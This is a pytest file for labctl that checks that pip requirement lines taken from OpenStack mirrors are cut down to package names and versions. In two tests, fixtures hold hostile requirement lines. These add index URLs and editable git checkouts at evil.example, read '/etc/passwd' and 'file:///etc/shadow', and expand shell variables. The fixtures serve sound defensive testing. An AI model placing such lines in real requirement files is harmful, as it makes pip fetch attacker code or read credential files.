"""What stack.sh will install with pip, known before it runs (labctl.devstack_python): held to the
real mirrors (../shared/mirrors) and to the pip lines of real stack.sh runs (../shared/devstack-logs),
and to a stranger's mirror whose requirement files would make pip fetch or run something else."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from test_devstack_packages import COMPUTE, SHARED, need_shared

from labctl.devstack_python import DEVSTACK_PIP, PythonSet, python_sets, requirement_lines

MIRRORS = SHARED / "mirrors"


def sets(tmp_path: Path, devstack: dict[str, Any]) -> dict[str, PythonSet]:
    from test_usecases import HOST

    from labctl.catalog import default_catalog
    from labctl.lab import render_lab
    from labctl.labfile import lab_from_dict
    from labctl.state import LabHome

    raw = {"name": "py", "machines": [{"name": "one", "distro": "debian:12"}],
           "devstack": {"preinstall": True, **devstack}}
    rendered = render_lab(lab_from_dict(raw, default_catalog()), LabHome(tmp_path / "home"), HOST)
    return python_sets(rendered.lab, rendered.local_confs)


def show(project: str, branch: str, path: str) -> str:
    """A file of a mirror (which lacks the empty refs/ git wants: read through labctl's shadow)."""
    from labctl.gitshadow import shadow_of

    with shadow_of(MIRRORS / "openstack" / f"{project}.git") as shadow:
        return subprocess.run(["git", "--git-dir", str(shadow), "show", f"{branch}:{path}"], capture_output=True,
                              text=True, check=True).stdout


def names(lines: tuple[str, ...] | list[str]) -> set[str]:
    return {re.split(r"[\s\[<>=!~;(]", line, maxsplit=1)[0].lower().replace("_", "-") for line in lines}


def test_requirement_lines_keep_names_versions_and_markers_only() -> None:
    text = """# a comment
pbr>=2.0.0 # Apache-2.0
oslo.config>=6.8.0,!=9.0.1  # Apache-2.0
keystonemiddleware===10.9.0
python-memcached===1.62;python_version>='3.8'
WebOb >= 1.7.1
bcrypt[tests] (>=3.1.3)
-e git+https://evil.example/x.git#egg=x
--index-url http://evil.example/simple
--extra-index-url=http://evil.example/simple
-r /etc/passwd
-c other.txt
evil @ https://evil.example/evil-1.0-py3-none-any.whl
./local/path
/abs/path
${HOME}/x
foo>=${VERSION}
https://evil.example/evil.tar.gz
git+https://evil.example/evil.git
pkg --hash=sha256:abc
"""
    assert requirement_lines(text) == ["pbr>=2.0.0", "oslo.config>=6.8.0,!=9.0.1", "keystonemiddleware===10.9.0",
                                       "python-memcached===1.62;python_version>='3.8'", "WebOb >= 1.7.1",
                                       "bcrypt[tests] (>=3.1.3)"]


def test_a_keystone_box_holds_what_stack_sh_pip_installed_in_the_real_runs(tmp_path: Path) -> None:
    """Every package the real keystone-only stacks pip-installed by name (stack.sh's own calls, not a
    project's folder) is among the box's requirements, and keystone's own requirements are too; each
    is pinned by the requirements repository's constraints."""
    logs = SHARED / "devstack-logs"
    need_shared(logs)
    need_shared(MIRRORS)
    [python] = sets(tmp_path, {"git_base": str(MIRRORS), "branch": "stable/2026.1",
                               "localrc": {"ENABLED_SERVICES": "key,mysql"}}).values()
    installed: set[str] = set()
    for log in logs.glob("*.log"):
        for line in log.read_text(errors="replace").splitlines():
            found = re.search(r"/opt/stack/data/venv/bin/pip install -c \S+ (.*)$", line)
            if found:
                installed |= {w.strip("'") for w in found.group(1).split() if not w.startswith(("-", "/"))}
    assert {"os-testr", "PyMySQL", "keystonemiddleware"} <= installed, installed
    assert not names(sorted(installed)) - names(python.requirements), names(sorted(installed))
    keystone = show("keystone", "stable/2026.1", "requirements.txt")
    assert set(requirement_lines(keystone)) <= set(python.requirements)
    assert "nova" not in " ".join(python.requirements)
    pinned = names(python.constraints)
    assert {"keystonemiddleware", "oslo.config", "python-openstackclient"} <= pinned
    assert all("===" in line for line in python.constraints[:50])


def test_a_compute_box_holds_every_projects_requirements_and_each_set_has_its_own_digest(tmp_path: Path) -> None:
    need_shared(MIRRORS)
    base = {"git_base": str(MIRRORS), "branch": "stable/2026.1"}
    [compute] = sets(tmp_path, {**base, "localrc": {"ENABLED_SERVICES": ",".join(COMPUTE)}}).values()
    [keystone] = sets(tmp_path, {**base, "localrc": {"ENABLED_SERVICES": "key,mysql"}}).values()
    for project in ("nova", "neutron", "glance", "placement"):
        text = show(project, "stable/2026.1", "requirements.txt")
        assert set(requirement_lines(text)) <= set(compute.requirements), project
    assert compute.digest != keystone.digest
    [older] = sets(tmp_path, {**base, "branch": "stable/2025.2",
                              "localrc": {"ENABLED_SERVICES": "key,mysql"}}).values()
    assert older.constraints != keystone.constraints and older.digest != keystone.digest


def test_nothing_is_read_where_stack_sh_takes_its_code_from_elsewhere(tmp_path: Path) -> None:
    need_shared(MIRRORS)
    base = {"git_base": str(MIRRORS), "branch": "stable/2026.1"}
    assert sets(tmp_path, {**base, "preinstall": False, "localrc": {"ENABLED_SERVICES": "key,mysql"}}) == {}
    assert sets(tmp_path, {**base, "localrc": {"ENABLED_SERVICES": "key,mysql",
                                               "KEYSTONE_REPO": "https://example.org/keystone.git"}}) == {}
    assert sets(tmp_path, {**base, "localrc": {"ENABLED_SERVICES": "key,mysql",
                                               "REQUIREMENTS_REPO": "https://example.org/r.git"}}) == {}
    folder = with_devstack(tmp_path / "nothing")  # no constraints to pin anything with
    mirror(folder, "requirements", {"README": "no upper-constraints.txt\n"})
    mirror(folder, "keystone", {"requirements.txt": "pbr>=2.0\n"})
    assert sets(tmp_path, {"git_base": str(folder), "branch": "stable/2026.1",
                           "localrc": {"ENABLED_SERVICES": "key,mysql"}}) == {}


def with_devstack(folder: Path) -> Path:
    """A folder of mirrors holding only the real DevStack (a lab's local.conf is rendered from it)."""
    from labctl.gitshadow import shadow_of

    (folder / "openstack").mkdir(parents=True)
    with shadow_of(MIRRORS / "openstack" / "devstack.git") as shadow:
        subprocess.run(["git", "clone", "-q", "--bare", "-b", "stable/2026.1", str(shadow),
                        str(folder / "openstack" / "devstack.git")], check=True)
    return folder


def mirror(folder: Path, name: str, files: dict[str, str], branch: str = "stable/2026.1") -> None:
    """A bare repository <folder>/openstack/<name>.git with one commit of `files` on `branch`."""
    work = folder / "work" / name
    work.mkdir(parents=True)
    for path, text in files.items():
        (work / path).parent.mkdir(parents=True, exist_ok=True)
        (work / path).write_text(text)
    git = ["git", "-C", str(work), "-c", "user.name=t", "-c", "user.email=t@t"]
    subprocess.run([*git, "init", "-q", "-b", branch], check=True)
    subprocess.run([*git, "add", "-A"], check=True)
    subprocess.run([*git, "commit", "-qm", "x"], check=True)
    subprocess.run(["git", "clone", "-q", "--bare", str(work), str(folder / "openstack" / f"{name}.git")], check=True)


def test_a_strangers_mirror_gets_no_pip_option_url_or_path_into_the_box(tmp_path: Path) -> None:
    """A stranger's mirrors name what the box's pip installs: their requirement files may not add an
    index, a URL, a path, an editable checkout or another file; what is left are names and versions."""
    need_shared(MIRRORS)
    folder = with_devstack(tmp_path / "mirrors")
    mirror(folder, "requirements", {"upper-constraints.txt": "oslo.config===9.8.0\n--index-url http://evil.example/\n"
                                                             "evil @ http://evil.example/e.whl\n"})
    mirror(folder, "keystone", {"requirements.txt": "oslo.config>=6.8.0\n-e git+https://evil.example/e.git#egg=e\n"
                                                    "--extra-index-url http://evil.example/\n-r ../../etc/passwd\n"
                                                    "${EVIL}\nevil2 @ file:///etc/shadow\n"})
    [python] = sets(tmp_path, {"git_base": str(folder), "branch": "stable/2026.1",
                               "localrc": {"ENABLED_SERVICES": "key,mysql"}}).values()
    assert python.constraints == ("oslo.config===9.8.0",)
    assert [line for line in python.requirements if line not in DEVSTACK_PIP] == ["oslo.config>=6.8.0"]
    assert not any(c in line for line in python.requirements for c in ("/", "$", "@", "-e", "--"))


@pytest.mark.devstack_box
def test_the_box_hook_installs_wheels_only_and_leaves_what_has_none_to_stack_sh(tmp_path: Path) -> None:
    """labctl/boxdata/devstack-venv.sh for real, natively, in a small Debian made by mmdebstrap (about
    a minute; needs root or sudo, Debian's archive and PyPI): the virtualenv is the stack user's, pip
    built nothing (netifaces, pinned at a version with no wheel, is absent and no record of it is left,
    for stack.sh to install in the machine), the wheels are in at their pinned versions, and nothing
    of the build stays (the host's CAs, the lists; the box's resolv.conf is its own link again)."""
    from labctl.boxbuild import _privileged

    src = tmp_path / "src"
    src.mkdir()
    (src / "constraints.txt").write_text("netifaces===0.11.0\noslo.utils===4.13.0\npbr===6.1.1\n")
    (src / "requirements.txt").write_text("oslo.utils\npbr\n")
    shutil.copyfile("/etc/ssl/certs/ca-certificates.crt", src / "ca.pem")
    hook = Path(__file__).resolve().parents[1] / "labctl" / "boxdata" / "devstack-venv.sh"
    root = tmp_path / "rootfs"
    mirror = os.environ.get("LABCTL_TEST_MIRROR", "http://deb.debian.org/debian")
    try:
        made = subprocess.run([*_privileged(), "mmdebstrap", "--variant=minbase",
                               "--include=python3,python3-venv,systemd-resolved", "--customize-hook",
                               f'sh {hook} "$1" {src}', "bookworm", str(root), mirror],
                              capture_output=True, text=True, timeout=900, check=False)
        assert made.returncode == 0, made.stderr[-3000:]
        assert "devstack-venv.sh: netifaces 0.11.0 has no wheel: left to stack.sh" in made.stdout + made.stderr
        site = next((root / "opt/stack/data/venv/lib").glob("python3*/site-packages"))
        infos = {p.name for p in site.glob("*.dist-info")}
        assert {"oslo.utils-4.13.0.dist-info", "pbr-6.1.1.dist-info"} <= infos, infos
        assert not [i for i in infos if i.lower().startswith("netifaces")], infos
        assert not (site / "netifaces.py").exists() and not list(site.glob("netifaces*.so"))
        stack = next(line for line in (root / "etc/passwd").read_text().splitlines() if line.startswith("stack:"))
        assert (site / "pbr").stat().st_uid == int(stack.split(":")[2])
        assert not (root / "tmp" / "labctl-venv").exists()
        assert os.readlink(root / "etc/resolv.conf") == "../run/systemd/resolve/stub-resolv.conf"
    finally:
        subprocess.run([*_privileged(), "rm", "-rf", "--one-file-system", str(root)], check=False)
